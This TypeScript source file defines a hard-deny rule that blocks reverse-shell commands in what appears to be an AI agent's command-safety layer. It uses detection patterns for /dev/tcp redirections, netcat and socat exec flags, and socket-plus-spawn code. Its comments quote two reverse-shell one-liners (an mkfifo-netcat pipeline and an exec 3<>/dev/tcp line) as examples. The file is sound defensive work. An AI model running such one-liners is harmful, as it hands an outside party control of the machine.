// reverseShellPolicy — a shell wired to a network socket: redirections to
// /dev/tcp or /dev/udp, nc -e / ncat --sh-exec, socat exec: to tcp:, a pipeline
// joining netcat and a shell, inline code connecting a socket and spawning a
// shell: hard-deny
// Pos: policies/security/commands/rules, one rule family; handing a remote
// party a shell on this machine is never the agent's call
import { NETCATS } from '../network-programs.js';
import type { ShellCommand } from '../shell-command.js';
import type { Said } from '../../../vocabulary/messages/said.js';
import { fragment, say, sayDetail } from '../../../vocabulary/messages/say.js';
import { defineCommandPolicy, stop } from './define-command-policy.js';
import type { CommandHit } from './define-command-policy.js';

const SHELLS = new Set([
  'sh',
  'bash',
  'zsh',
  'dash',
  'ksh',
  'ash',
  'fish',
  'csh',
  'tcsh',
  'mksh',
  'cmd',
  'pwsh',
  'powershell',
]);
const SOCKET_CODE =
  /\b(?:socket|TCPSocket|fsockopen|IO::Socket|net\.(?:Socket|connect|createConnection)|Socket\.new|require\(['"]net['"]\))/;
const SPAWN_CODE =
  /\b(?:dup2|pty\.spawn|subprocess|Popen|proc_open|shell_exec|exec|spawn|system)\b|\/bin\/(?:ba)?sh|\bcmd\.exe\b/;

const SOCKET_BOTH_WAYS = /\d*<>\s*(\/dev\/(?:tcp|udp)\/[^\s;&|)]+)/;

function why(command: ShellCommand): Said | undefined {
  const socket = command.redirects.find((r) =>
    /^\/dev\/(?:tcp|udp)\//.test(r.target.value),
  );
  if (socket)
    return fragment('why.reverse.redirect', {
      socket: socket.target.value,
    });
  const words = command.argv.slice(1).map((w) => w.value);
  if (
    ['nc', 'ncat', 'netcat', 'pwncat'].includes(command.name) &&
    words.some((w) =>
      /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)(?:=|$)/.test(w),
    )
  )
    return fragment('why.reverse.netcat', { program: command.name });
  if (
    command.name === 'socat' &&
    words.some((w) => /^(?:exec|system):/i.test(w)) &&
    words.some((w) =>
      /^(?:tcp|tcp4|tcp6|tcp-connect|tcp-listen|openssl|openssl-connect|udp|ssl)[:-]/i.test(
        w,
      ),
    )
  )
    return fragment('why.reverse.socat');
  if (
    command.code?.text &&
    command.code.language !== 'shell' &&
    SOCKET_CODE.test(command.code.text) &&
    SPAWN_CODE.test(command.code.text)
  )
    return fragment('why.reverse.code', { program: command.name });
  return undefined;
}

export const reverseShellPolicy = defineCommandPolicy({
  id: 'command.reverse-shell',
  description: 'shells connected to the network',
  checkScript({ analysis }) {
    const hits: CommandHit[] = [];
    for (const command of analysis.commands) {
      const reason = why(command);
      if (reason)
        hits.push({
          subject: command.text,
          severity: 'hard-deny',
          ...say('command.reverse-shell', { reason }),
          next: stop(sayDetail('command.reverse-shell.next')),
        });
    }
    // `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: a shell and a netcat
    // in one pipeline.
    const pipelines = new Map<number, ShellCommand[]>();
    for (const command of analysis.commands)
      if (command.pipeline)
        pipelines.set(command.pipeline.id, [
          ...(pipelines.get(command.pipeline.id) ?? []),
          command,
        ]);
    // `exec 3<>/dev/tcp/host/port`: a descriptor open both ways on a socket is
    // how a shell is joined to the network; tree-sitter-bash cannot parse
    // `N<>`, so the text is read.
    const socket = SOCKET_BOTH_WAYS.exec(analysis.source);
    if (socket)
      hits.push({
        subject: socket[0].trim(),
        severity: 'hard-deny',
        ...say('command.reverse-shell.socket', { socket: socket[1] ?? '' }),
        next: stop(sayDetail('command.reverse-shell.next')),
      });
    for (const stages of pipelines.values()) {
      const shell = stages.find(
        (c) =>
          SHELLS.has(c.name) &&
          (c.code === undefined || c.code.source === 'pipe'),
      );
      const netcat = stages.find((c) => NETCATS.has(c.name));
      if (shell && netcat)
        hits.push({
          subject: shell.text,
          severity: 'hard-deny',
          ...say('command.reverse-shell.pipeline', {
            shell: shell.name,
            netcat: netcat.name,
          }),
          next: stop(sayDetail('command.reverse-shell.next')),
        });
    }
    return hits;
  },
});
